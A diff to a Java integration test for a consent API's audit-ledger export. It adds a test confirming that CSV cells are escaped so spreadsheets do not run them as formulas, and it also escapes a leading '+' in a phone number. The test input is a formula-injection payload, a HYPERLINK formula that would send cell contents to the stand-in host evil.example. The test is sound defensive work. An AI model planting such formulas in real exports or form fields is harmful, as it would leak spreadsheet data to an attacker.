@@ -74,8 +74,28 @@ class AuditIT {
         assertThat(lines.get(0)).startsWith("sequence,entryId,customerId,type,channel,purpose,basis,jurisdiction,source,");
         List<String> mine = lines.stream().filter(l -> l.contains(customer)).toList();
         assertThat(mine).hasSize(3);
-        assertThat(mine.get(0)).contains(",GRANTED,SMS,promotions,OPT_IN,FR,WEB_FORM,2026-01-05T10:15:30Z,2026-04-01T10:00:00Z,2029-01-05T10:15:30Z,+33612345678,");
+        assertThat(mine.get(0)).contains(",GRANTED,SMS,promotions,OPT_IN,FR,WEB_FORM,2026-01-05T10:15:30Z,2026-04-01T10:00:00Z,2029-01-05T10:15:30Z,'+33612345678,");
         assertThat(mine.get(2)).contains(",GRANTED,MAIL,").contains(",\"12 RUE DES LILAS, 75011 PARIS\",");
+    }
+
+    @Test
+    void csvCellsThatASpreadsheetWouldRunAsAFormulaAreNeutralised() {
+        String customer = "c-" + UUID.randomUUID();
+        clock.set(Instant.parse("2026-05-01T10:00:00Z"));
+        String attack = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+        assertThat(api.post("/api/v1/consents", aGrant(customer).userAgent(attack).json(), "consents:write").status())
+                .isEqualTo(201);
+        clock.set(Instant.parse("2026-05-02T00:00:00Z"));
+
+        Api.Response csv = api.get("/api/v1/audit/ledger?from=2026-05-01T10:00:00Z", "text/csv", "audit:read");
+
+        String row = csv.body().lines().filter(l -> l.contains(customer)).findFirst().orElseThrow();
+        assertThat(row).contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",")
+                .contains(",'+33612345678,").doesNotContain(",=").doesNotContain(",\"=");
+        assertThat(api.get("/api/v1/audit/ledger?from=2026-05-01T10:00:00Z", "application/json", "audit:read").json()
+                .get("entries").valueStream().filter(e -> e.get("customerId").asString().equals(customer)).findFirst()
+                .orElseThrow().get("evidence").get("userAgent").asString())
+                .as("the JSON export keeps the value as recorded").isEqualTo(attack);
     }
 
     @Test
